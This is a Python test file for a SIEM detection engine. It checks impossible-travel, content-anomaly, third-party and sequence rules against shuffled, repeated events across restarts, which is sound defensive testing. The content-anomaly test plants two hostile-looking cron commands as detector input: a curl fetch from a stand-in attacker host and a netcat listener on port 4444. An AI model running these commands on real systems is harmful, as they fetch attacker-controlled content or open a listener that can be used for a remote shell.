"""Impossible travel, content anomaly, third party and sequence on real stores: from the event to the signal, with
restarts between, late events and repetition (siem.md §2.16–2.19, §13.6, §13.7)."""

import random
from collections.abc import Mapping
from typing import Any

import orjson
from test_evaluator import BORN, HOUR, World, state

from tocsin.evaluate.decision import Decision, MatchRow
from tocsin.evaluate.method import decide
from tocsin.evaluate.methods import plan
from tocsin.event import Event, event_id
from tocsin.match.matcher import Matcher
from tocsin.rule import Match, Rule
from tocsin.rules.executable import executable
from tocsin.rules.shape import rule_from_api
from tocsin.rules.validation import check
from tocsin.store.events import EventStore
from tocsin.store.state import StateStore

__all__ = ["state"]

PLACES = {
    "London": (51.5142, -0.0931, "United Kingdom", "81.2.69.142"),
    "Milton": (47.2513, -122.3149, "United States", "216.160.83.56"),
    "Linköping": (58.4167, 15.6167, "Sweden", "89.160.20.112"),
}


def rule(rule_id: str, method: str, **body: Any) -> Rule:
    """As the API reads it and detection runs it."""
    times = {"keepAlive": 3600, "maxSignalDuration": 86400}
    asked = {
        "name": "Strange",
        "message": "m",
        "isEnabled": True,
        "queries": [],
        "cases": [{"status": "high"}],
        **body,
        "options": {"detectionMethod": method, **times, **body.get("options", {})},
    }
    assert check(asked) == []
    return executable(rule_from_api(asked, rule_id=rule_id))


def travel(rule_id: str, **options: Any) -> Rule:
    query = {
        "query": "source:okta",
        "aggregation": "geo_data",
        "groupByFields": ["@usr.id"],
        "metrics": ["@network.client.geoip"],
    }
    return rule(rule_id, "impossible_travel", queries=[query], options={"impossibleTravelOptions": options})


def contents(rule_id: str) -> Rule:
    query = {"query": "source:cron", "groupByFields": ["host"], "metrics": ["@cmd"]}
    options = {
        "evaluationWindow": 3600,
        "contentAnomalyOptions": {"learningDuration": 1, "forgetAfter": 2, "similarityThreshold": 60},
    }
    cases = [{"status": "high", "condition": "a >= 2"}, {"status": "low", "condition": "a > 0"}]
    return rule(rule_id, "content_anomaly", queries=[query], cases=cases, options=options)


def vendor(rule_id: str, cases: list[dict[str, Any]] | None = None, **options: Any) -> Rule:
    given = {
        "defaultStatus": "low",
        "rootQueries": [{"query": "source:vendor", "groupByFields": ["@device.id"]}],
        **options,
    }
    return rule(rule_id, "third_party", cases=[], thirdPartyCases=cases or [], options={"thirdPartyRuleOptions": given})


def steps(rule_id: str, *, is_linked: bool = False) -> Rule:
    fields = ["@network.client.ip"] if is_linked else ["@usr.id"]
    return rule(
        rule_id,
        "sequence_detection",
        queries=[
            {"name": "failed", "query": "source:app @evt:failed", "groupByFields": ["@usr.id"]},
            {"name": "made", "query": "source:app @evt:made", "groupByFields": fields},
        ],
        cases=[{"status": "high", "condition": "make > 0"}],
        options={
            "sequenceDetectionOptions": {
                "steps": [
                    {"name": "guess", "condition": "failed > 2", "evaluationWindow": 300},
                    {"name": "make", "condition": "made > 0", "evaluationWindow": 0},
                ],
                "stepTransitions": [{"parent": "guess", "child": "make", "evaluationWindow": 3600}],
            }
        },
    )


def event(hour: float, source: str, **attributes: Any) -> Event:
    """Sent as backfill, so that it may come at any time."""
    timestamp = BORN + round(hour * HOUR)
    identity = event_id(timestamp, orjson.dumps([source, attributes]))
    return Event(identity, timestamp, source=source, host="web-1", tags=["backfill:true"], attributes=attributes)


def access(hour: float, city: str, user: str = "bob") -> Event:
    latitude, longitude, country, ip = PLACES[city]
    place = {
        "location": {"latitude": latitude, "longitude": longitude},
        "city": {"name": city},
        "country": {"name": country},
    }
    return event(hour, "okta", usr={"id": user}, network={"client": {"ip": ip, "geoip": place}})


def matched(an_event: Event, *rules: Rule) -> tuple[Event, list[Match]]:
    matcher = Matcher(rules)
    assert not matcher.problems
    return an_event, list(matcher.match(an_event))


def documents(world: World, of: Rule) -> list[dict[str, Any]]:
    rows = sorted(world.signals(of), key=lambda row: (row["timestamp"], row["id"]))
    return [
        orjson.loads(row["document"]) | {"at": (row["timestamp"] - BORN) / HOUR, "status": row["status"]}
        for row in rows
    ]


def decided(of: Rule, events: list[Event]) -> list[Decision]:
    """What all events together make of each group."""
    prepared = plan(of)
    groups: dict[tuple[str, ...], list[MatchRow]] = {}
    for each in events:
        for match in matched(each, of)[1]:
            row = MatchRow(each.timestamp, each.id, match.group, match.query_index, match.distinct, match.value)
            groups.setdefault(prepared.signal_group(match.group), []).append(row)
    found = [decision for rows in groups.values() for decision in decide(prepared, rows)]
    return sorted(found, key=lambda decision: (decision.timestamp, decision.opened_by))


def lives_through(event_store: EventStore, state: StateStore, of: Rule, events: list[Event]) -> list[dict[str, Any]]:
    """Send the events shuffled, in parts, some twice, with a restart after each; the signals are those of all."""
    world = World(event_store, state, of, name=of.id)
    order = events.copy()
    random.Random(7).shuffle(order)
    parts = [order[at : at + 4] for at in range(0, len(order), 4)]
    for part in [*parts, order[:3]]:
        world.ingest(*(matched(each, of) for each in part))
        world.run()
        world.restart()
    found = documents(world, of)
    wanted = decided(of, events)
    assert [document["internal_id"] for document in found] == [f"{of.id}-1-{decision.opened_by}" for decision in wanted]
    for document, decision in zip(found, wanted, strict=True):
        assert document["workflow"]["events_matched"] == decision.events_matched
        for name, told in decision.facts.items():
            assert document[name] == told
    return found


def test_impossible_travel(event_store: EventStore, state: StateStore) -> None:
    events = [access(0, "London"), access(0.5, "Milton"), access(24, "London"), access(24.1, "London", "ana")]
    (signal,) = lives_through(event_store, state, travel("tra-aaa-aaa"), events)
    assert (signal["at"], signal["status"], signal["usr"]["id"]) == (0.5, "high", "bob")
    assert signal["network"]["client"]["ip"] == ["81.2.69.142", "216.160.83.56"]
    told = signal["impossible_travel"]
    assert told["triggering_locations"]["second_location"]["city"] == "Milton"
    assert told["travel_speed"] > 15_000


def test_impossible_travel_with_a_baseline(event_store: EventStore, state: StateStore) -> None:
    """siem.md §13.6: the transition that was seen is silent."""
    events = [access(hour, "London") for hour in (0, 30, 31, 32, 33)]
    events += [access(hour, "Milton") for hour in (31.5, 32.5)] + [access(24 * 40, "London")]
    found = lives_through(event_store, state, travel("tra-aaa-aab", baselineUserLocations=True), events)
    assert [signal["at"] for signal in found] == [31.5]


def test_content_anomaly(event_store: EventStore, state: StateStore) -> None:
    events = [event(hour, "cron", cmd=f"backup --disk sda{hour} --quiet") for hour in range(0, 48, 3)]
    events += [event(30.5, "cron", cmd="curl http://evil.example/x"), event(30.9, "cron", cmd="nc -l 4444")]
    (signal,) = lives_through(event_store, state, contents("con-aaa-aaa"), events)
    assert (signal["at"], signal["status"]) == (30.5, "high")
    assert signal["content_anomaly"]["new_words"] == ["4444", "l", "nc"]


def test_third_party_without_cases_has_the_default_severity(event_store: EventStore, state: StateStore) -> None:
    """siem.md §13.7: and rolls up what has the same values for 24 hours."""
    events = [event(hour, "vendor", device={"id": "d1"}, n=hour) for hour in (0, 1, 23.9, 24.1, 30)]
    events.append(event(2, "vendor", device={"id": "d2"}))
    found = lives_through(event_store, state, vendor("ven-aaa-aaa"), events)
    assert [(signal["at"], signal["status"], signal["device"]["id"]) for signal in found] == [
        (0, "low", "d1"),
        (2, "low", "d2"),
        (24.1, "low", "d1"),
    ]
    assert [signal["workflow"]["events_matched"] for signal in found] == [3, 1, 2]


def test_third_party_cases_titles_and_roots(event_store: EventStore, state: StateStore) -> None:
    cases = [
        {"name": "urgent", "query": "@level:>=8", "status": "critical"},
        {"query": "@level:>=5", "status": "medium"},
    ]
    roots = [
        {"query": "source:vendor @kind:alert", "groupByFields": ["@device.id"]},
        {"query": "source:vendor"},
    ]
    of = vendor("ven-aaa-aab", cases, rootQueries=roots, signalTitleTemplate="{{@title}} ({{severity}})")
    events = [
        event(0, "vendor", kind="alert", level=5, title="Odd", device={"id": "d1"}),
        event(1, "vendor", kind="alert", level=9, title="Bad", device={"id": "d1"}),
        event(2, "vendor", kind="note", level=9, title="Loose"),
        event(2.1, "vendor", kind="note", level=1, title="Loose"),
        event(3, "vendor", kind="alert", level=9, title="no device"),
    ]
    found = lives_through(event_store, state, of, events)
    assert [(signal["at"], signal["status"], signal["title"]) for signal in found] == [
        (0, "critical", "Odd, Bad (4)"),
        (2, "critical", "Loose (4)"),
        (2.1, "low", "Loose (1)"),
    ]
    assert found[0]["groupByValues"] == {"@device.id": "d1"}
    assert found[1]["groupByValues"] == {}
    assert [query["name"] for query in found[0]["queries"]][:2] == ["urgent of root 1", "case 2 of root 1"]


def app(minute: float, name: str, **attributes: Any) -> Event:
    return event(minute / 60, "app", evt=name, **attributes)


def test_sequence(event_store: EventStore, state: StateStore) -> None:
    events = [app(minute, "failed", usr={"id": "bob"}) for minute in (0, 1, 2, 3)]
    events += [
        app(minute, "made", usr={"id": user}) for minute, user in ((0.5, "bob"), (20, "ana"), (30, "bob"), (31, "bob"))
    ]
    (signal,) = lives_through(event_store, state, steps("seq-aaa-aaa"), events)
    assert (signal["at"], signal["usr"]["id"]) == (0.5, "bob")
    assert [query["aggregationDetails"]["eventsCount"] for query in signal["queries"]] == [4, 2]


def test_linked_sequence(event_store: EventStore, state: StateStore) -> None:
    """From an account to the address that it came from; each pair has a signal of its own."""
    events = []
    for number, (user, ip) in enumerate((("bob", "198.51.100.1"), ("ana", "198.51.100.2"))):
        for minute in (0, 1, 2):
            events.append(app(minute + number / 10, "failed", usr={"id": user}, network={"client": {"ip": ip}}))
        events += [app(10 + number + again, "made", network={"client": {"ip": ip}}) for again in (0, 30, 100)]
    events.append(app(12, "made", network={"client": {"ip": "198.51.100.3"}}))
    found = lives_through(event_store, state, steps("seq-aaa-aab", is_linked=True), events)
    values: list[Mapping[str, Any]] = [signal["groupByValues"] for signal in found]
    assert values == [
        {"@usr.id": "bob", "@network.client.ip": "198.51.100.1"},
        {"@usr.id": "ana", "@network.client.ip": "198.51.100.2"},
    ]
    assert [signal["workflow"]["events_matched"] for signal in found] == [5, 5]
